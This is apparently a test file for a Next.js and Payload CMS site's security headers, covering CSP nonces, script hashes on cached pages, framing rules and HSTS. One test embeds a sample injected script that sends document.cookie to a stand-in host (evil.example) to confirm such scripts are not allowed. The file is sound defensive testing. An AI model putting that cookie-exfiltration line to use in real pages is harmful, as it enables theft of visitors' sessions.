import { createHash } from 'node:crypto'
import fs from 'node:fs'
import http, { ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'

import * as pageStaticInfo from 'next/dist/build/analysis/get-page-static-info'
import { getPathMatch } from 'next/dist/shared/lib/router/utils/path-match'
import { getMiddlewareRouteMatcher } from 'next/dist/shared/lib/router/utils/middleware-route-matcher'

import { config as proxyConfig } from '@/proxy'
import { LOADER } from '@/server/http/deferredApp.mjs'
import SecureIsrCache, { signCachedPage } from '@/server/http/isrCacheHandler.mjs'
import { PAGE_VERSION_HEADER } from '@/server/http/pageResponses.mjs'
import { freshNonce, withRenderNonce } from '@/server/http/renderNonce.mjs'
import {
  CACHED_PAGE,
  MONACO_CDN,
  executableInlineScripts,
  frameAncestors,
  mediaOrigins,
  nonceSources,
  pagePolicy,
  payloadHeadersForAdmin,
  securityHeaderRoutes,
  strictTransportSecurity,
} from '@/server/http/securityHeaders.mjs'
import { installStrictTransportSecurity } from '@/server/http/strictTransport'

// Next's own compiler of proxy matchers (exported by the module, missing from its types).
const { getMiddlewareMatchers } = pageStaticInfo as unknown as { getMiddlewareMatchers: (matcher: unknown, nextConfig: unknown) => never }

const PRODUCTION = { NODE_ENV: 'production', SERVER_URL: 'http://localhost:3000' }

/** directive name → its sources */
function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name, values]))
}

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`

describe('page policy', () => {
  it('a per-request page: its nonce and strict-dynamic, nothing that lets an injected script run', () => {
    const policy = directives(pagePolicy({ scripts: nonceSources('abc123'), pathname: '/dashboard', env: PRODUCTION }))
    expect(policy.get('script-src')).toEqual(["'self'", "'nonce-abc123'", "'strict-dynamic'"])
    expect(policy.get('connect-src')).toEqual(["'self'"])
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:'])
    expect(policy.get('object-src')).toEqual(["'none'"])
    expect(policy.get('base-uri')).toEqual(["'self'"])
    expect(policy.get('frame-ancestors')).toEqual(["'none'"])
    expect(policy.has('upgrade-insecure-requests')).toBe(false)
  })

  it("unsafe-eval only in development (React Refresh), never in a production build", () => {
    expect(pagePolicy({ scripts: [], pathname: '/', env: PRODUCTION })).not.toContain('unsafe-eval')
    expect(pagePolicy({ scripts: [], pathname: '/', env: { NODE_ENV: 'test' } })).not.toContain('unsafe-eval')
    expect(directives(pagePolicy({ scripts: [], pathname: '/', env: { NODE_ENV: 'development' } })).get('script-src')).toContain("'unsafe-eval'")
  })

  it("a post's page may be framed by our own origin (the admin's live preview), nothing else", () => {
    for (const pathname of ['/blog/my-post', '/en/blog/my-post', '/hu/blog/bejegyzes']) expect(frameAncestors(pathname)).toBe("'self'")
    for (const pathname of ['/', '/blog', '/en/blog', '/pricing', '/dashboard', '/admin', '/admin/collections/posts/1', '/blog/a/b']) {
      expect(frameAncestors(pathname)).toBe("'none'")
    }
  })

  it('images and media from the S3 host when media live in S3', () => {
    expect(mediaOrigins({})).toEqual([])
    expect(mediaOrigins({ S3_ENDPOINT: 'https://minio.example.com:9000' })).toEqual([]) // no bucket: local disk
    const minio = { ...PRODUCTION, S3_BUCKET: 'media', S3_ENDPOINT: 'https://minio.example.com:9000/' }
    const policy = directives(pagePolicy({ scripts: [], pathname: '/blog', env: minio }))
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:', 'https://minio.example.com:9000'])
    expect(policy.get('media-src')).toContain('https://minio.example.com:9000')
    expect(policy.get('connect-src')).toEqual(["'self'"])
    expect(mediaOrigins({ S3_BUCKET: 'b', S3_REGION: 'eu-central-1' })).toEqual(['https://b.s3.eu-central-1.amazonaws.com'])
    expect(mediaOrigins({ S3_BUCKET: 'b' })).toEqual(['https://b.s3.us-east-1.amazonaws.com', 'https://b.s3.amazonaws.com'])
  })

  it('on https: upgrade-insecure-requests and HSTS; on http neither', () => {
    const https = { NODE_ENV: 'production', SERVER_URL: 'https://seo.example.com' }
    expect(directives(pagePolicy({ scripts: [], pathname: '/', env: https })).has('upgrade-insecure-requests')).toBe(true)
    expect(strictTransportSecurity(https)).toMatch(/^max-age=\d{8,}; includeSubDomains$/)
    expect(strictTransportSecurity(PRODUCTION)).toBeUndefined()
    expect(strictTransportSecurity({})).toBeUndefined()
  })

  it("the admin gets Monaco's stylesheet and font (Payload's code fields, at the address @payloadcms/ui loads) and Gravatar's account icons", () => {
    const admin = directives(pagePolicy({ scripts: nonceSources('n'), pathname: '/admin/collections/articles/1', env: PRODUCTION }))
    expect(admin.get('style-src')).toContain(MONACO_CDN)
    expect(admin.get('font-src')).toContain(MONACO_CDN)
    expect(admin.get('img-src')).toContain('https://www.gravatar.com') // Payload's default account icon
    expect(pagePolicy({ scripts: [], pathname: '/blog', env: PRODUCTION })).not.toMatch(/jsdelivr|gravatar/)
    const dir = path.join(process.cwd(), 'node_modules/@payloadcms/ui/dist/exports/client')
    const bundled = fs.readdirSync(dir).filter((f) => f.endsWith('.js')).map((f) => fs.readFileSync(path.join(dir, f), 'utf8'))
    const loaderPaths = new Set(bundled.flatMap((code) => [...code.matchAll(/https:\/\/cdn\.jsdelivr\.net\/npm\/monaco-editor@[^"'/]+\/min\/vs/g)].map((m) => m[0])))
    expect([...loaderPaths]).toEqual([`${MONACO_CDN}vs`])
  })
})

describe('inline scripts of a page', () => {
  it('lists the scripts a browser runs, not data blocks or external files', () => {
    const html = [
      '<html><head><script src="/_next/static/chunks/a.js" async=""></script>',
      '<script type="application/ld+json">{"@type":"WebSite"}</script>',
      '<script>self.__next_f=self.__next_f||[]</script>',
      '<SCRIPT type="module">import "./x.js"</SCRIPT >',
      "<script type='text/javascript' id=x>a()\r\nb()\rc()</script>",
      '<script type="application/json" id="data">{"a":1}</script>',
      '<script nonce="n" data-x="1">self.__next_f.push([1,"<\\/script>"])</script>',
      '</head></html>',
    ].join('')
    expect(executableInlineScripts(html)).toEqual([
      'self.__next_f=self.__next_f||[]',
      'import "./x.js"',
      'a()\nb()\nc()',
      'self.__next_f.push([1,"<\\/script>"])',
    ])
  })
})

describe('cached pages carry a hash-based policy', () => {
  const html = '<!DOCTYPE html><html><head><script src="/_next/static/chunks/main.js" async=""></script></head><body><p>Hi</p><script>self.__next_f=self.__next_f||[]</script><script>self.__next_f.push([1,"abc"])</script><script type="application/ld+json">{}</script></body></html>'
  const key = '/route-cache/APP_PAGE/0123abcd/$/en/blog/my-post'
  const page = () => ({ kind: 'APP_PAGE', html, rscData: Buffer.from('0:{}'), headers: { 'x-next-cache-tags': 'posts' } as Record<string, string>, status: 200 })
  const newCache = () => new SecureIsrCache({ flushToDisk: false, serverDistDir: '/nonexistent', maxMemoryCacheSize: 50 * 1024 * 1024, revalidatedTags: [], _requestHeaders: {} })
  const setContext = { kind: 'APP_PAGE', isRoutePPREnabled: false, isFallback: false, cacheControl: { revalidate: 60, expire: 31536000 } }

  /** Renders as server.mjs has Next render: a request with its nonce, which Next writes on its scripts. */
  async function renderAndStore(cache: InstanceType<typeof SecureIsrCache>, write: (nonce: string) => string) {
    const req = { headers: { 'content-security-policy': "script-src 'nonce-chosen-by-client'" } as Record<string, string> }
    const value = page()
    await withRenderNonce(req as never, async () => {
      const nonce = /'nonce-([^']+)'/.exec(req.headers['content-security-policy']!)![1]!
      value.html = write(nonce)
      await cache.set(key, value, setContext)
    })
    return value
  }

  it('gives every request a nonce of its own: 18 random bytes, never twice (drawn from a pool of 512)', () => {
    const nonces = Array.from({ length: 2000 }, freshNonce)
    expect(new Set(nonces).size).toBe(2000)
    for (const nonce of nonces) expect(Buffer.from(nonce, 'base64')).toHaveLength(18)
    const req = { headers: { 'content-security-policy': "script-src 'nonce-chosen-by-client'" } as Record<string, string> }
    const seen = [1, 2].map(() => withRenderNonce(req as never, () => req.headers['content-security-policy']))
    expect(seen[0]).not.toBe(seen[1])
    expect(seen[0]).toMatch(/^script-src 'nonce-[A-Za-z0-9+/]{24}'$/)
  })

  it('when the page enters the cache: the MISS answer (same value) and each HIT carry the same policy', async () => {
    const cache = newCache()
    const value = await renderAndStore(cache, (nonce) => html.replaceAll('<script>', `<script nonce="${nonce}">`))
    const policy = value.headers['content-security-policy']
    const scriptSrc = directives(policy).get('script-src')
    // A post starts its app on intent (deferredApp.mjs): its moved scripts keep their hashes, and the loader has one.
    expect(scriptSrc).toEqual(["'self'", sha256('self.__next_f=self.__next_f||[]'), sha256('self.__next_f.push([1,"abc"])'), sha256(LOADER)])
    expect(value.html).toContain('<template id="app-scripts">')
    expect(value.html).not.toContain('nonce=')
    expect(directives(policy).get('frame-ancestors')).toEqual(["'self'"])
    expect(value.headers['x-next-cache-tags']).toBe('posts')
    expect(value.headers['content-language']).toBe('en')
    expect(JSON.stringify(value)).not.toContain('Symbol')

    const hit = await cache.get(key, { kind: 'APP_PAGE', isRoutePPREnabled: false, isFallback: false })
    expect(hit?.value.headers['content-security-policy']).toBe(policy)
  })

  it('hashes only the scripts Next wrote with the request\'s nonce: one that came in with content is not allowed', async () => {
    const injected = 'fetch("https://evil.example/?"+document.cookie)'
    const value = await renderAndStore(newCache(), (nonce) =>
      html
        .replaceAll('<script>', `<script nonce="${nonce}">`)
        // A post's body that slipped a script past sanitising, with no nonce, a guessed one, or the client's own.
        .replace('<p>Hi</p>', `<p>Hi</p><script>${injected}</script><script nonce="guess">${injected}1</script><script nonce="chosen-by-client">${injected}2</script>`),
    )
    const scriptSrc = directives(value.headers['content-security-policy']).get('script-src')!
    for (const text of [injected, `${injected}1`, `${injected}2`]) expect(scriptSrc).not.toContain(sha256(text))
    expect(scriptSrc).toEqual(expect.arrayContaining([sha256('self.__next_f=self.__next_f||[]'), sha256(LOADER)]))
    expect(scriptSrc).not.toContain("'unsafe-inline'")
  })

  it('a page stored outside a request (no nonce known) gets no script hashed but our loader', async () => {
    const value = page()
    await newCache().set(key, value, setContext)
    expect(directives(value.headers['content-security-policy']).get('script-src')).toEqual(["'self'", sha256(LOADER)])
  })

  it('an entry read from elsewhere (a build-time prerender) gets this process\'s policy, replacing a stored one', () => {
    const value = { ...page(), headers: { 'Content-Security-Policy': "script-src 'unsafe-inline'" } as Record<string, string> }
    signCachedPage('/route-cache/APP_PAGE/ff/$/_not-found', value)
    expect(Object.keys(value.headers)).toEqual(['content-security-policy', PAGE_VERSION_HEADER])
    expect(value.headers['content-security-policy']).toContain("frame-ancestors 'none'")
    expect(directives(value.headers['content-security-policy']).get('script-src')).not.toContain("'unsafe-inline'")
  })

  it('gives each version of a page its own version (the ETag server.mjs sends), the same for the same HTML', () => {
    const signed = (html: string) => {
      const value = { ...page(), html, headers: {} as Record<string, string> }
      signCachedPage('/route-cache/APP_PAGE/ff/$/en/blog', value)
      return value.headers[PAGE_VERSION_HEADER]
    }
    expect(signed('<html><body>one</body></html>')).toMatch(/^[\w-]{27}$/)
    expect(signed('<html><body>one</body></html>')).toBe(signed('<html><body>one</body></html>'))
    expect(signed('<html><body>two</body></html>')).not.toBe(signed('<html><body>one</body></html>'))
  })

  it('leaves data-cache entries and route handlers alone', () => {
    const fetchEntry = { kind: 'FETCH', data: { body: '<script>x</script>' }, revalidate: 60 } as { kind: string; headers?: unknown }
    signCachedPage('some-fetch-key', fetchEntry)
    expect(fetchEntry.headers).toBeUndefined()
  })
})

describe('which requests run the proxy (nonce) and which are served from cache (hashes)', () => {
  const matches = getMiddlewareRouteMatcher(getMiddlewareMatchers(proxyConfig.matcher, {}))
  const proxied = (url: string) => {
    const { pathname, searchParams } = new URL(url, 'http://localhost')
    return matches(pathname, { headers: {} } as never, Object.fromEntries(searchParams))
  }
  const cached = ['/', '/blog', '/blog/my-post-1a2b', '/pricing', '/contact', '/privacy-policy', '/terms-of-service', '/cookie-policy', '/en/privacy-policy', '/en/terms-of-service', '/en/cookie-policy', '/blog/page/2', '/pricing?utm_source=x']
  const perRequest = [
    '/dashboard', '/dashboard/articles', '/dashboard/articles/12', '/dashboard/blog-edit/3', '/dashboard/subscription', '/ai-tools', '/blog-writer', '/blog-writer-sliding',
    '/admin', '/admin/login', '/admin/collections/posts/3', '/blog?q=seo', '/blog?category=guides', '/blog?tag=seo', '/blog?page=2', '/blog/123', '/blog/a/b',
    '/verify-email?token=x', '/reset-password?token=x', '/success?session_id=1', '/no-such-page', '/pricing/more', '/en/blog', '/blogs', '/contact-us',
  ]
  const notPages = ['/api', '/api/users/me', '/api/graphql', '/_next/static/chunks/main.js', '/_next/image?url=x', '/robots.txt', '/sitemap.xml', '/icon.svg', '/favicon.ico', '/apple-icon.png', '/manifest.webmanifest', '/icons/icon-512.png', '/blog/rss.xml']

  it('cached pages and non-pages: never (their speed stays)', () => {
    for (const url of [...cached, ...notPages]) expect([url, proxied(url)]).toEqual([url, false])
  })

  it('every page rendered per request: always', () => {
    for (const url of perRequest) expect([url, proxied(url)]).toEqual([url, true])
  })

  it('CACHED_PAGE (the cache handler, next.config) names the same pages', () => {
    for (const url of cached) expect([url, CACHED_PAGE.test(new URL(url, 'http://x').pathname)]).toEqual([url, true])
    for (const url of perRequest.filter((u) => !u.includes('?'))) expect([url, CACHED_PAGE.test(url)]).toEqual([url, false])
  })
})

describe('headers of next.config for every address', () => {
  function headersFor(pathname: string): Record<string, string> {
    const out: Record<string, string> = {}
    for (const route of securityHeaderRoutes()) {
      if (!getPathMatch(route.source, { removeUnnamedParams: true })(pathname)) continue
      for (const { key, value } of route.headers) out[key.toLowerCase()] = value
    }
    return out
  }

  it('nosniff everywhere, the referrer policy and a framing rule on all but Next\'s files, the API locked down', () => {
    const staticFile = headersFor('/_next/static/chunks/a.js')
    expect(staticFile).toEqual({ 'x-content-type-options': 'nosniff' })
    for (const pathname of ['/', '/blog', '/blog/my-post', '/admin', '/admin/login', '/api/users/me', '/api/graphql', '/_next/image', '/icon.svg', '/robots.txt', '/_next-static-lookalike']) {
      const headers = headersFor(pathname)
      expect([pathname, headers['x-content-type-options'], headers['referrer-policy']]).toEqual([pathname, 'nosniff', 'strict-origin-when-cross-origin'])
      expect([pathname, headers['x-frame-options']]).toEqual([pathname, frameAncestors(pathname) === "'self'" ? 'SAMEORIGIN' : 'DENY'])
    }
    expect(headersFor('/api/users/me')['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'")
    expect(headersFor('/api/graphql')['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'")
    // Pages get theirs from the proxy or the cache: a second policy here would be enforced too.
    for (const pathname of ['/', '/blog', '/blog/my-post', '/admin', '/dashboard']) expect(headersFor(pathname)['content-security-policy']).toBeUndefined()
  })
})

describe("Payload's colour-scheme hints", () => {
  it('stay on the admin panel: elsewhere Critical-CH would make Chrome fetch a page twice', async () => {
    const { withPayload } = await import('@payloadcms/next/withPayload')
    const routes = payloadHeadersForAdmin((await withPayload({}).headers?.()) ?? [])
    const hintsFor = (pathname: string) =>
      routes.filter((route) => getPathMatch(route.source, { removeUnnamedParams: true })(pathname)).flatMap((route) => route.headers.map((h) => h.key.toLowerCase()))
    for (const pathname of ['/admin', '/admin/collections/posts', '/admin/login']) expect([pathname, hintsFor(pathname)]).toEqual([pathname, expect.arrayContaining(['accept-ch', 'critical-ch'])])
    for (const pathname of ['/', '/blog', '/blog/my-post', '/pricing', '/dashboard', '/_next/static/chunks/a.js', '/api/users/me', '/administrator']) expect([pathname, hintsFor(pathname)]).toEqual([pathname, []])
  })
})

describe('Strict-Transport-Security at run time', () => {
  async function responseHeaders(Response: unknown) {
    const server = http.createServer({ ServerResponse: Response as typeof ServerResponse }, (_req, res) => {
      res.setHeader('content-type', 'text/plain')
      res.end('ok')
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const response = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
      await response.text()
      return response.headers
    } finally {
      await new Promise((resolve) => server.close(resolve))
    }
  }

  it('every response when SERVER_URL is https, none when it is http', async () => {
    class HttpsSite extends ServerResponse {}
    class HttpSite extends ServerResponse {}
    expect(installStrictTransportSecurity({ SERVER_URL: 'https://seo.example.com' }, HttpsSite)).toBe(true)
    expect(installStrictTransportSecurity({ SERVER_URL: 'https://seo.example.com' }, HttpsSite)).toBe(false) // once
    expect(installStrictTransportSecurity({ SERVER_URL: 'http://localhost:3000' }, HttpSite)).toBe(false)
    expect((await responseHeaders(HttpsSite)).get('strict-transport-security')).toBe('max-age=31536000; includeSubDomains')
    expect((await responseHeaders(HttpSite)).get('strict-transport-security')).toBeNull()
  })
})
